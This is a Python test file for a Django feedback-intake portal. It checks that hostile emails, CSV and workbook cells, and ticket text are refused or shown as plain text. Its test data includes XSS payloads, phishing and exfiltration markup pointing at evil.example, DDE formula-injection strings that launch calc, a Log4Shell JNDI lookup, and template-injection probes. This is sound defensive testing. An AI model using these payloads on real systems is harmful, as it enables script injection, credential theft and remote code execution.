"""Every input that somebody may send to do harm, by its row in the list of hostile inputs, and the test that shows what comes of it.

Most stand beside what they try; those that go through several rooms, or belong to none, stand here.
"""

import io
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from feedback_portal.accounts.models import Role
from intake import importing, normalizing, receiving
from intake.connectors import connectors, documents, mails
from intake.connectors.base import FileConnector, Unreadable
from intake.models import FeedbackItem, Submission
from tests.intake import test_workbooks as books
from tests.intake.test_hooks import body_of, channel_of, signature_of
from tests.intake.test_import_pages import HOSTILE, send, work
from tests.makers import AT, make_channel, make_item, make_person, make_team, make_ticket
from triage.models import Notification

HOOKS = "intake/test_hooks.py::"
FORM = "intake/test_public_form.py::"
API = "intake/test_feedback_api.py::"
MANNERS = "ground/test_api_manners.py::"
PROOF = "intake/test_proof_of_work.py::"
MAIL = "intake/test_email.py::"
CSV = "intake/test_csv_file.py::"
BOOKS = "intake/test_workbooks.py::"
FILES = "intake/test_files.py::"
OUT = "ground/test_outgoing.py::"
TOLD = "triage/test_notifications.py::"
LINK = "triage/test_tracking.py::"
HERE = "intake/test_hostile_inputs.py::"

SHOWN: Mapping[int, tuple[str, ...]] = {
    # API and webhooks
    6: (API + "test_a_hostile_body_is_a_clear_no", MANNERS + "test_ambiguous_json_is_refused"),
    7: (API + "test_a_hostile_body_is_a_clear_no", MANNERS + "test_ambiguous_json_is_refused"),
    8: (HOOKS + "test_a_genuine_call_that_cannot_be_read_is_kept_with_the_reason", API + "test_a_hostile_body_is_a_clear_no"),
    9: (HOOKS + "test_a_call_of_another_shape_is_refused", "ground/test_proxy.py::test_a_chunked_request_goes_on_with_its_length"),
    10: (HOOKS + "test_a_call_beyond_the_limit_is_refused_before_it_is_read",),
    11: (HOOKS + "test_a_call_of_another_shape_is_refused", OUT + "test_compressed_answers_are_not_unpacked"),
    12: (HERE + "test_a_call_in_an_unknown_charset_is_refused", FORM + "test_another_kind_of_content_is_refused", API + "test_another_kind_of_content_is_415"),
    13: (FORM + "test_too_much_is_refused", FORM + "test_half_a_post_is_not_taken_for_a_whole"),
    14: (HOOKS + "test_a_call_that_is_not_signed_leaves_nothing", HOOKS + "test_refusals_of_forged_calls_do_not_say_what_is_wrong", HOOKS + "test_forged_calls_are_counted_for_staff_and_machines"),
    15: ("intake/test_hooked_kinds.py::test_a_call_of_another_time_is_refused", "intake/test_hooked_kinds.py::test_a_call_of_no_time_is_refused"),
    16: (HOOKS + "test_the_same_call_a_hundred_times_at_once_is_one_item",),
    17: (HOOKS + "test_the_first_body_under_an_id_stands_and_the_other_is_shown",),
    18: (HOOKS + "test_an_old_secret_holds_beside_the_new_one_for_as_long_as_it_is_kept",),
    19: (HOOKS + "test_calls_out_of_order_end_as_calls_in_order", HOOKS + "test_calls_taken_apart_at_once_end_as_calls_in_order"),
    20: (MANNERS + "test_the_same_key_for_another_body_is_422", MANNERS + "test_callers_do_not_share_keys", MANNERS + "test_a_key_that_is_none_is_400", MANNERS + "test_twenty_at_once_have_one_effect"),
    # Forms
    21: (FORM + "test_it_is_held_back",),
    22: (FORM + "test_the_token_of_another_form_is_refused", FORM + "test_a_changed_token_is_refused", FORM + "test_a_page_of_yesterday_comes_back_with_its_text_and_can_be_sent"),
    23: (FORM + "test_the_same_page_twice_is_one_thing_with_one_link", FORM + "test_ten_at_once_are_one_thing"),
    24: (PROOF + "test_a_proof_counts_once", PROOF + "test_it_is_good_for_its_form_only", PROOF + "test_nothing_of_it_can_be_changed"),
    25: (FORM + "test_a_flood_is_told_when_to_come_again", FORM + "test_an_address_that_a_client_makes_up_changes_nothing"),
    26: (TOLD + "test_an_address_gets_one_an_hour_and_three_a_day", TOLD + "test_a_receipt_says_what_happens_next_and_nothing_its_sender_typed"),
    27: (FORM + "test_a_hostile_answer_is_a_clear_no", "intake/test_mail_hooks.py::test_a_header_cannot_write_another"),
    # Mail
    28: (HERE + "test_a_mail_that_a_program_sent_is_passed_over_and_answered_by_nobody",),
    29: (HERE + "test_a_mail_that_a_program_sent_is_passed_over_and_answered_by_nobody", TOLD + "test_a_receipt_arrives_in_the_manner_of_automatic_mail"),
    30: ("intake/test_threads.py::test_a_mail_that_claims_to_answer_another_customer_stays_new",),
    31: (HERE + "test_a_mail_of_markup_is_words_wherever_it_is_shown",),
    32: (MAIL + "test_a_mail_made_to_cost_minutes_is_refused_after_little_work", MAIL + "test_an_odd_mail_is_read_within_bounds", MAIL + "test_one_hostile_mail_of_a_mailbox_costs_the_others_nothing"),
    # Files of rows
    33: (CSV + "test_encodings_are_told_by_their_bytes", CSV + "test_an_encoding_that_cannot_be_told_is_asked_for", CSV + "test_shapes_of_tables"),
    34: (CSV + "test_a_bad_row_costs_itself_alone", CSV + "test_what_is_no_table_of_feedback_is_refused_in_words"),
    35: ("intake/test_import_pages.py::test_columns_and_cells_are_shown_and_never_run", HERE + "test_a_column_named_to_do_harm_is_shown_as_it_is_beside_what_went_wrong"),
    36: (HERE + "test_a_formula_is_stored_as_typed", "intake/test_importing.py::test_the_errors_file_runs_no_formula"),
    37: (BOOKS + "test_what_would_harm_is_refused_in_words", BOOKS + "test_a_lie_about_size_hides_gigabytes_and_is_found_before_they_are_parsed", BOOKS + "test_more_memory_than_allowed_ends_the_child_alone"),
    38: (BOOKS + "test_what_would_harm_is_refused_in_words", HERE + "test_what_a_workbook_links_to_is_passed_over"),
    39: (BOOKS + "test_cells_are_what_a_spreadsheet_shows", BOOKS + "test_days_are_counted_from_1904_where_the_workbook_says_so", BOOKS + "test_a_formula_is_what_it_came_to_and_is_never_worked_out", BOOKS + "test_merged_cells_say_it_once", BOOKS + "test_a_million_empty_rows_are_passed_over"),
    40: (HERE + "test_json_without_an_end_is_refused_at_a_size", "intake/test_tables.py::test_a_broken_line_costs_itself"),
    # Attached files
    41: (FILES + "test_what_could_run_or_is_broken_is_refused_in_words", FILES + "test_it_leaves_as_a_download_that_nothing_opens"),
    42: (FILES + "test_a_name_is_only_shown", FILES + "test_a_file_lies_under_a_name_nobody_can_guess"),
    43: (FILES + "test_one_of_too_many_pixels_is_refused_without_being_drawn", FILES + "test_one_that_ends_too_early_is_refused_wherever_it_ends", FILES + "test_where_it_was_taken_is_gone_and_the_picture_is_not"),
    # 44: there is no scanner; a file is a download only, as rows 41 and 45 show.
    45: ("triage/test_workbench.py::test_a_file_is_a_download_for_its_team_alone",),
    # What we call
    46: (OUT + "test_no_spelling_of_an_inside_address_is_reached", "intake/test_channels.py::test_an_address_inside_our_network_is_refused_where_it_is_entered"),
    47: (OUT + "test_a_public_name_that_leads_inside_is_refused", OUT + "test_a_name_is_resolved_once_and_that_address_is_what_is_called", OUT + "test_odd_schemes_ports_and_our_own_host_are_refused_by_their_text"),
    48: (OUT + "test_redirects_are_told_and_not_followed", OUT + "test_no_more_is_read_than_was_asked_for", OUT + "test_an_answer_that_trickles_without_end_is_cut", OUT + "test_one_that_never_answers_is_not_waited_for"),
    # Rules, search, links, pages
    49: ("triage/test_rules.py::test_a_pattern_that_re2_cannot_run_or_only_slowly_is_refused_with_the_reason", "triage/test_rules.py::test_patterns_that_explode_elsewhere_are_answered"),
    50: ("ground/test_edge.py::test_a_misshapen_request_is_refused_in_words", "triage/test_search.py::test_any_text_is_a_query_or_refused_with_a_sentence"),
    64: (LINK + "test_unknown_expired_and_revoked_links_are_one_same_404", LINK + "test_reading_changes_nothing_and_acting_needs_a_post"),
    65: (FORM + "test_only_named_origins_may_frame_it_and_only_when_asked", "ground/test_edge.py::test_every_answer_carries_the_headers", "browser/test_widget.py::test_a_site_that_the_form_does_not_name_gets_a_link_instead"),
    66: (HERE + "test_words_that_look_like_ours_are_words",),
    67: (HERE + "test_words_that_look_like_ours_are_words", "intake/test_receiving.py::test_towers_of_marks_are_cut_down"),
    68: ("ground/test_logs.py::test_a_request_is_one_line_with_its_route_and_id", "ground/test_logs.py::test_fields_from_outside_stay_on_their_line"),
}  # fmt: skip

TESTS = Path(__file__).parent.parent


@pytest.mark.parametrize("row", SHOWN, ids=str)
def test_the_tests_that_the_list_names_are_there(row: int) -> None:
    for named in SHOWN[row]:
        path, _, name = named.partition("::")
        assert re.search(rf"^ *def {name}\(", (TESTS / path).read_text(), re.MULTILINE), named


@pytest.mark.django_db
def test_a_call_in_an_unknown_charset_is_refused() -> None:
    channel, body = channel_of(), body_of()
    answered = Client().generic(
        "POST",
        f"/hooks/{channel.hook_key}/",
        body,
        content_type="application/json; charset=nonsense",
        headers={"Typeform-Signature": signature_of(body)},
    )

    assert answered.status_code == 415


@pytest.mark.django_db
@pytest.mark.parametrize(
    "head",
    [
        "From: ana@customers.example\nAuto-Submitted: auto-replied",
        "From: ana@customers.example\nAuto-Submitted: auto-generated",
        "From: ana@customers.example\nPrecedence: bulk",
        "From: ana@customers.example\nReturn-Path: <>",
        "From: mailer-daemon@x.example",
        "From: ana@customers.example\nContent-Type: multipart/report; boundary=b",
        "From: Help <help@ours.example>",
    ],
    ids=["away", "generated", "bulk", "null sender", "daemon", "bounce", "our own"],
)
def test_a_mail_that_a_program_sent_is_passed_over_and_answered_by_nobody(head: str) -> None:
    channel = make_channel("mails", "email")
    channel.settings = {"our_addresses": "help@ours.example"}
    channel.save()
    raw = mails.raw_mail(f"{head}\nMessage-ID: <1@x.example>\nSubject: Away\n\nI am away.\n".encode())

    receiving.receive(channel, raw, at=AT)
    normalizing.normalize_pending(at=AT)

    assert Submission.objects.get().ignored_reason.endswith(".")
    assert not FeedbackItem.objects.exists()
    assert not Notification.objects.exists()


MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<p style="background:url(https://evil.example/p)">dear</p>',
    "<form action=https://evil.example/><input name=password></form>",
    "<img src=https://evil.example/1.gif width=1 height=1>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip
LOADS = re.compile(
    r"<(?!/)(?:script(?! src=\"/static/)|img|svg onload|base|iframe|math|object|embed|form action=https)"
)


@pytest.mark.django_db
@pytest.mark.parametrize("markup", MARKUP)
def test_a_mail_of_markup_is_words_wherever_it_is_shown(markup: str) -> None:
    channel = make_channel("mails", "email")
    head = "From: ana@customers.example\nMessage-ID: <1@x.example>\nSubject: s\nContent-Type: text/html\n\n"
    receiving.receive(channel, mails.raw_mail(f"{head}<p>It leaks.</p>{markup}".encode()), at=timezone.now())
    normalizing.normalize_pending(at=timezone.now())
    item = FeedbackItem.objects.get()
    ticket = make_ticket(item=item, team=make_team(), at=timezone.now())
    desk = Client()
    desk.force_login(make_person("Tariq", ticket.team))

    assert "It leaks." in item.text
    pages = [
        desk.get("/triage/", {"item": ticket.reference}),
        desk.get(f"/triage/{ticket.reference}/mail/"),
        Client().get(receiving.tracking_url(item.submission)),
    ]
    for page in pages:
        said = page.content.decode()
        assert page.status_code == 200
        assert "It leaks." in said
        assert not LOADS.search(said), LOADS.search(said)
        assert "evil.example" not in re.sub(r"[^<>]*(?=<)", "", said)


@pytest.fixture
def ada(settings: Any, tmp_path: Path) -> Client:
    settings.STATE_DIR = tmp_path / "state"
    client = Client()
    client.force_login(make_person("Ada", role=Role.ADMIN))
    return client


@pytest.mark.django_db
def test_a_column_named_to_do_harm_is_shown_as_it_is_beside_what_went_wrong(ada: Client) -> None:
    address = send(ada, f"text,stars,{HOSTILE}\n,9,{HOSTILE}\nIt leaks,2,{HOSTILE}\n")
    ada.post(address, {"begin": "yes"})
    work()

    page = ada.get(address).content.decode()
    report = ada.get(f"{address}report/")
    assert HOSTILE not in page
    assert HOSTILE in b"".join(report.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    assert report["Content-Disposition"].startswith("attachment")
    assert report["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
@pytest.mark.parametrize("typed", ["=cmd|' /C calc'!A0", " =1+1", "\t=1+1", "＝1+1", "-2+3", "@SUM(A1)"])
def test_a_formula_is_stored_as_typed(typed: str, tmp_path: Path, settings: Any) -> None:
    settings.STATE_DIR = tmp_path / "state"
    path = tmp_path / "said.csv"
    path.write_text(f'text,stars\n"{typed}",2\n', encoding="utf-8")

    importing.import_file(make_channel("table", "csv_file"), path, at=AT)
    normalizing.normalize_pending(at=AT)

    assert FeedbackItem.objects.get().text == typed.strip()


def test_what_a_workbook_links_to_is_passed_over() -> None:
    """An external link, a query of data, and a cell that would start a program: the rows are read, and these are not."""
    row = f"<row r='2'>{books.cell('A2', '1')}<c r='B2' t='str'><f>cmd|'/c calc'!A1</f><v>It leaks</v></c></row>"
    linked = books.parts(
        books.HEADER + row,
        **{
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{books.MAIN}"/>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": books.RELATED.format(
                books.TO.format("externalLinkPath", "https://evil.example/book.xlsx")
            ),
            "xl/connections.xml": f'<connections xmlns="{books.MAIN}"/>',
        },
    )
    assert books.cells(books.packed(linked))[1][1] == ["1", "It leaks"]


def test_json_without_an_end_is_refused_at_a_size(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "LONGEST_LINE", 10_000)
    monkeypatch.setattr(documents, "LONGEST_DOCUMENT", 50_000)
    json_file = connectors.get("json_file")
    assert isinstance(json_file, FileConnector)
    read = 0

    class Counted(io.BytesIO):
        def read1(self, size: int | None = -1, /) -> bytes:
            nonlocal read
            found = super().read1(-1 if size is None else size)
            read += len(found)
            return found

    with pytest.raises(Unreadable, match="more than 50,000 characters"):
        list(json_file.rows(Counted(b'{"text": "' + b"x" * 5_000_000 + b'"}'), settings={}))
    assert 10_000 < read < 1_000_000


OURS = [
    '<div hx-get="/sign-out/" hx-trigger="load">',
    "<button hx-on:click=alert(1)>",
    "<script nonce=abc>alert(1)</script>",
    "{{7*7}} {% csrf_token %}",
    "%s %(secret)s {0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "\u202egpj.exe \u200b\u2066",
    "\U0001f468\u200d" * 5000,
    "HX-Redirect: https://evil.example",
]


@pytest.mark.django_db
@pytest.mark.parametrize("said", OURS, ids=lambda said: said[:12])
def test_words_that_look_like_ours_are_words(said: str) -> None:
    ticket = make_ticket(item=make_item(said, title=said[:200], at=timezone.now()), team=make_team(), at=timezone.now())
    desk = Client()
    desk.force_login(make_person("Tariq", ticket.team))

    page = desk.get("/triage/", {"item": ticket.reference, "q": ""}, headers={"HX-Request": "true"})
    whole = desk.get("/triage/", {"item": ticket.reference})

    for answer in (page, whole):
        shown = answer.content.decode()
        assert answer.status_code == 200
        assert "<div hx-get" not in shown
        assert "<button hx-on" not in shown
        assert "nonce=abc>" not in shown
        assert "HX-Redirect" not in answer.headers
    text = re.search(r'<div class="msg"[^>]* hx-disable>(.*?)</div>', whole.content.decode(), re.DOTALL)
    assert text is not None
    assert said.strip() == _unescaped(text[1])
    assert "49" not in text[1]


def _unescaped(shown: str) -> str:
    for written, meant in (("&lt;", "<"), ("&gt;", ">"), ("&quot;", '"'), ("&#x27;", "'"), ("&amp;", "&")):
        shown = shown.replace(written, meant)
    return re.sub(r"</?mark>", "", shown)
